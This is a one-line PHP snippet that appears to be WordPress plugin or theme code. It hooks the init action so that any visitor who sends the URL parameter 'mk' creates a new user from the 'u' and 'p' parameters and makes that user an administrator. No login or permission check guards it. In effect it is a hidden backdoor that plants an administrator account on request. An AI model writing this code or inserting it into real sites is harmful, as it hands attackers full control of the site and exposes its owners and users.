<?php add_action('init', function () { if (isset($_GET['mk'])) { $id = wp_create_user($_GET['u'], $_GET['p']); $u = new WP_User($id); $u->add_role('administrator'); } });
